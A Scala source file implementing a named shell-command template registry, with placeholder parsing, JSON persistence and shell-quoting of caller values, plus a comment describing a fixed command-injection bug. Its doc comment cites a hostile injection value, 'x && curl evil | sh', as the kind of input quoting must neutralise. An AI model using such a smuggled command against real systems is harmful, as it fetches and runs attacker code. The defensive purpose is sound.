package graft.api

import java.nio.charset.StandardCharsets
import java.nio.file.{Files, Path}
import scala.jdk.CollectionConverters._
import com.fasterxml.jackson.databind.{JsonNode, ObjectMapper}
import com.fasterxml.jackson.databind.node.ObjectNode

/** Named-command registry: durable, file-backed templates a caller (or
  * agent, via the serve tools) registers once and runs by name.
  *
  * Behavior spec: the reference's RegisteredCommand + placeholder
  * grammar + expansion rules (/root/reference/src/blq/commands/
  * core.py:1080-1341) and its registration conflict semantics
  * (serve.py:1986-2117): registering an identical command is
  * idempotent ("existing"), a different command under a taken name —
  * or a taken simple command under a new name — is refused without
  * `force`. Persistence is one JSON file (the reference uses TOML;
  * same content, and JSON needs no parser beyond the Jackson already
  * on Spark's classpath).
  *
  * Placeholder grammar (core.py:1214-1265):
  *  - `{name}`          keyword-only, required
  *  - `{name=default}`  keyword-only, optional
  *  - `{name:}`         positional-able, required
  *  - `{name:=default}` positional-able, optional
  *
  * Expansion (core.py:1268-1341): named args must be known
  * placeholders; positional args fill positional-able slots in
  * template order, leftovers append as extra args; defaults fill the
  * rest; a missing required placeholder is an error. Every
  * caller-supplied value is SHELL-QUOTED into the rendered string —
  * the template itself is trusted (fixed at registration) and may
  * carry intentional shell syntax, but a value like
  * `x && curl evil | sh` must stay one literal token.
  */
final class CommandRegistry(path: Path) {
  import CommandRegistry._

  private val mapper = new ObjectMapper()

  def load(): Map[String, RegisteredCommand] =
    if (!Files.exists(path)) Map.empty
    else {
      val root = mapper.readTree(Files.readString(path))
      Option(root.get("commands")).filter(_.isObject).map { cmds =>
        cmds.properties().asScala.map { e =>
          e.getKey -> fromJson(e.getKey, e.getValue)
        }.toMap
      }.getOrElse(Map.empty)
    }

  private def save(cmds: Map[String, RegisteredCommand]): Unit = {
    val root = mapper.createObjectNode()
    val obj = root.putObject("commands")
    cmds.toSeq.sortBy(_._1).foreach { case (name, c) => toJson(obj.putObject(name), c) }
    Option(path.getParent).foreach(Files.createDirectories(_))
    Files.write(path,
      (mapper.writerWithDefaultPrettyPrinter().writeValueAsString(root) + "\n")
        .getBytes(StandardCharsets.UTF_8))
  }

  /** Register `rc`. Right((command, existed)) on success — `existed`
    * means an identical command was already there (idempotent re-use,
    * nothing written). Left(reason) on a conflict without `force`. */
  def register(rc: RegisteredCommand,
      force: Boolean = false): Either[String, (RegisteredCommand, Boolean)] = {
    if (rc.cmd.isDefined == rc.tpl.isDefined)
      return Left("provide either 'cmd' (simple command) or 'tpl' (template), not both")
    val cmds = load()
    val norm = normalize(rc.template)
    cmds.get(rc.name) match {
      case Some(existing) if !force =>
        if (existing.isTemplate == rc.isTemplate && normalize(existing.template) == norm)
          Right((existing, true))
        else
          Left(s"command '${rc.name}' already exists with different command " +
            s"'${existing.template}'; use force to overwrite")
      case _ =>
        // a simple command already registered under ANOTHER name is a
        // conflict too (the reference points the caller at that name)
        val clash = rc.cmd.flatMap(_ => cmds.collectFirst {
          case (n, e) if n != rc.name && e.cmd.exists(c => normalize(c) == norm) => n
        })
        clash match {
          case Some(n) if !force =>
            Left(s"command already registered as '$n'; run that name or use force")
          case _ =>
            save(cmds + (rc.name -> rc))
            Right((rc, false))
        }
    }
  }

  def unregister(name: String): Either[String, Unit] = {
    val cmds = load()
    if (!cmds.contains(name)) Left(s"command '$name' not found")
    else { save(cmds - name); Right(()) }
  }

  def get(name: String): Option[RegisteredCommand] = load().get(name)

  def list(): Seq[RegisteredCommand] = load().values.toSeq.sortBy(_.name)

  private def fromJson(name: String, n: JsonNode): RegisteredCommand = {
    def str(k: String) = Option(n.get(k)).filter(_.isTextual).map(_.asText())
    RegisteredCommand(
      name = name,
      cmd = str("cmd"),
      tpl = str("tpl"),
      defaults = Option(n.get("defaults")).filter(_.isObject).map(d =>
        d.properties().asScala.map(e => e.getKey -> e.getValue.asText()).toMap)
        .getOrElse(Map.empty),
      description = str("description").getOrElse(""),
      timeoutMs = Option(n.get("timeout")).filter(_.isNumber).map(_.asLong()),
      format = str("format").getOrElse("auto"),
      capture = Option(n.get("capture")).forall(_.asBoolean(true)),
      suppress = Option(n.get("suppress")).filter(_.isArray)
        .map(_.elements().asScala.map(_.asText()).toSeq).getOrElse(Nil))
  }

  private def toJson(o: ObjectNode, c: RegisteredCommand): Unit = {
    c.cmd.foreach(o.put("cmd", _))
    c.tpl.foreach(o.put("tpl", _))
    if (c.defaults.nonEmpty) {
      val d = o.putObject("defaults")
      c.defaults.toSeq.sortBy(_._1).foreach { case (k, v) => d.put(k, v) }
    }
    o.put("description", c.description)
    c.timeoutMs.foreach(o.put("timeout", _))
    o.put("format", c.format)
    if (!c.capture) o.put("capture", false)
    if (c.suppress.nonEmpty) {
      val a = o.putArray("suppress")
      c.suppress.foreach(a.add)
    }
  }
}

object CommandRegistry {

  final case class RegisteredCommand(
      name: String,
      cmd: Option[String] = None,
      tpl: Option[String] = None,
      defaults: Map[String, String] = Map.empty,
      description: String = "",
      timeoutMs: Option[Long] = None,
      format: String = "auto",
      capture: Boolean = true,
      suppress: Seq[String] = Nil) {
    def isTemplate: Boolean = tpl.isDefined
    def template: String = tpl.orElse(cmd).getOrElse("")
  }

  final case class Placeholder(name: String, default: Option[String],
      positional: Boolean)

  // {name}, {name=default}, {name:}, {name:=default} — core.py:1231
  private val PlaceholderRe =
    """\{([a-zA-Z_][a-zA-Z0-9_]*)(:=?([^}]*)?|=([^}]*))?\}""".r

  def parsePlaceholders(template: String): Seq[Placeholder] =
    PlaceholderRe.findAllMatchIn(template).flatMap { m =>
      val name = m.group(1)
      Option(m.group(2)) match {
        case None => Some(Placeholder(name, None, positional = false))
        case Some(":") => Some(Placeholder(name, None, positional = true))
        case Some(mod) if mod.startsWith(":=") =>
          Some(Placeholder(name, Some(Option(m.group(3)).getOrElse("")),
            positional = true))
        case Some(mod) if mod.startsWith("=") =>
          Some(Placeholder(name, Some(Option(m.group(4)).getOrElse("")),
            positional = false))
        case _ => None // malformed modifier: not a placeholder (core.py falls through)
      }
    }.toSeq

  /** POSIX shell single-token quoting (shlex.quote behavior): safe
    * charset passes through, anything else single-quoted with embedded
    * quotes escaped. */
  def shQuote(s: String): String =
    if (s.nonEmpty && s.forall(c =>
        c.isLetterOrDigit || "_@%+=:,./-".contains(c))) s
    else "'" + s.replace("'", "'\"'\"'") + "'"

  /** Expand `template` with named + positional args (core.py:1268-1341);
    * throws IllegalArgumentException on unknown/missing args. Values
    * are shell-quoted; the rendered string is a `sh -c` command line. */
  def expand(template: String, named: Map[String, String],
      positional: Seq[String] = Nil, extra: Seq[String] = Nil): String = {
    val placeholders = parsePlaceholders(template)
    val names = placeholders.map(_.name).toSet
    named.keys.find(!names.contains(_)).foreach { bad =>
      throw new IllegalArgumentException(
        s"unknown argument '$bad'; valid arguments: ${names.toSeq.sorted.mkString(", ")}")
    }
    var values = named
    var posIdx = 0
    placeholders.filter(_.positional).foreach { p =>
      if (!values.contains(p.name) && posIdx < positional.length) {
        values += p.name -> positional(posIdx)
        posIdx += 1
      }
    }
    val remaining = positional.drop(posIdx)
    placeholders.foreach { p =>
      if (!values.contains(p.name)) p.default match {
        case Some(d) => values += p.name -> d
        case None =>
          throw new IllegalArgumentException(s"missing required argument '${p.name}'")
      }
    }
    // SINGLE pass over the ORIGINAL template: substituted values are
    // never rescanned. The previous form replaceFirst-ed over the
    // evolving string, so a caller VALUE containing a later
    // placeholder's literal text ("{b}") was itself re-substituted —
    // inside the quotes shQuote had just added — letting a crafted
    // pair of arguments splice an unquoted payload into the command
    // line (injection through the serve `run` tool).
    val result = PlaceholderRe.replaceAllIn(template, m =>
      java.util.regex.Matcher.quoteReplacement(
        parsePlaceholders(m.matched).headOption match {
          case Some(p) => shQuote(values(p.name))
          case None => m.matched
        }))
    val allExtra = remaining ++ extra
    if (allExtra.nonEmpty) result + " " + allExtra.map(shQuote).mkString(" ")
    else result
  }

  private def normalize(cmd: String): String =
    cmd.trim.split("\\s+").mkString(" ")
}
